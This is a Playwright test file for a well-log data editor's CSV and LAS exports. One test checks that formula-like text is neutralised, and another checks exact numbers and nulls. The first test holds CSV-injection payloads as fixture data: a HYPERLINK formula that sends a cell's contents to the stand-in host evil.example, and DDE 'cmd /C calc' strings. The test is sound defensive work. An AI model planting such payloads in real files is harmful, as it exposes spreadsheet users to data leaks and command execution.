/**
 * QA hunt 2: exports of the previewed table (CSV, LAS 2.0): exact numbers and nulls, and text
 * cells that a spreadsheet would run as formulas.
 */
import { expect, test } from '@playwright/test';
import { EditorPage } from './pages/editor.ts';
import { parseCsv, watchConsole } from './qa-kit.ts';
import { addFiles, exportPreview, gridRow, lasFile, previewFile } from './qa2-kit.ts';

test.use({ viewport: { width: 1600, height: 1000 } });

/** Zone names as an attacker (or a careless export) writes them: each starts a formula. */
const EVIL_ZONES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];
const csvCell = (s: string) => (/[",]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
const EVIL = [
  'WELL,TOP,ZONE',
  ...EVIL_ZONES.map((z, i) => `W1,${1000 + i * 10},${csvCell(z)}`),
  'W1,1040,Sand',
  '',
].join('\n');

/** RFC 4180 rows of `text` (quoted fields may hold commas and doubled quotes). */
function csvRows(text: string): string[][] {
  return text
    .trim()
    .split('\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => {
        const f = m[1] ?? '';
        return f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f;
      }),
    );
}

// Fixed (security): a text cell starting with = + - or @ used to be written to the CSV export as
// it is, so Excel/LibreOffice ran it as a formula when the file was opened (CSV/formula injection,
// OWASP). The text can come from a shared link (an SQL or expression node's string constant) as
// well as a file. Steps: add evil.csv, Preview, Export > Table as CSV, open it in a spreadsheet.
// Now the editor exports with tableToCsv(table, { spreadsheetSafe: true }): such text cells get a
// leading `'` and are quoted; numbers are typed and unchanged. The CLI keeps raw text.
test('CSV export neutralises formula-like text for spreadsheets', async ({ page }) => {
  const app = new EditorPage(page);
  await app.open();
  await addFiles(app, [{ name: 'evil.csv', content: EVIL }]);
  await previewFile(app, 'evil.csv');
  expect((await gridRow(app, 1))[2]).toBe(EVIL_ZONES[0]);
  const [csv] = await exportPreview(app, 'CSV');
  const cells = csv!.text
    .trim()
    .split('\n')
    .slice(1)
    .map((l) => l.slice(l.indexOf(',', l.indexOf(',') + 1) + 1).replace(/^"/, ''));
  expect(cells).toHaveLength(5);
  for (const c of cells.slice(0, 4)) expect(c).not.toMatch(/^[=+\-@]/);
  // The text itself is kept behind the quote mark; plain text and the numbers are unchanged.
  const rows = csvRows(csv!.text);
  expect(rows[0]).toEqual(['WELL', 'TOP', 'ZONE']);
  expect(rows.slice(1).map((r) => r[2])).toEqual([...EVIL_ZONES.map((z) => `'${z}`), 'Sand']);
  expect(rows.slice(1).map((r) => r[1])).toEqual(['1000', '1010', '1020', '1030', '1040']);
});

test('fine: CSV and LAS exports keep every number exactly, nulls as empty / NULL value', async ({
  page,
}) => {
  const logs = watchConsole(page);
  const app = new EditorPage(page);
  await app.open();
  const rows = [
    [1000, 0.1, 0.30000000000000004, 123456.789012345],
    [1000.5, -999.25, 1e-10, 12345678901234568],
    [1001, 2.5e-7, -3.5, 1.7976931348623157e308],
  ];
  const curves = [
    ['DEPT', 'M'],
    ['A', 'V'],
    ['B', 'V'],
    ['C', 'V'],
  ] as const;
  await addFiles(app, [lasFile('nums.las', curves, rows)]);
  await previewFile(app, 'nums.las');
  // The grid rounds to 10 significant digits (documented) and shows the null as blank.
  expect(await gridRow(app, 2)).toEqual(['1000.5', '', '1e-10', '12345678901234568', 'QA2-WELL']);

  const [csv] = await exportPreview(app, 'CSV');
  expect(csv!.name).toBe('nums.csv');
  const got = parseCsv(csv!.text);
  expect(got).toHaveLength(3);
  rows.forEach((r, i) => {
    const g = got[i]!;
    expect(Number(g.DEPT)).toBe(r[0]);
    expect(g.A === '' ? -999.25 : Number(g.A)).toBe(r[1]);
    expect(Number(g.B)).toBe(r[2]);
    expect(Number(g.C)).toBe(r[3]);
    expect(g.WELL).toBe('QA2-WELL');
  });

  const [las] = await exportPreview(app, 'LAS 2.0');
  expect(las!.text).toMatch(/^ NULL\.\s+-999\.25\s+:/m);
  expect(las!.text).toMatch(/^ WELL\.\s+QA2-WELL\s+:/m);
  const data = las!.text.slice(las!.text.indexOf('~A'));
  const back = data
    .split('\n')
    .slice(1)
    .filter((l) => l.trim())
    .map((l) => l.trim().split(/\s+/).map(Number));
  expect(back).toEqual(rows);
  expect(logs).toEqual([]);
});
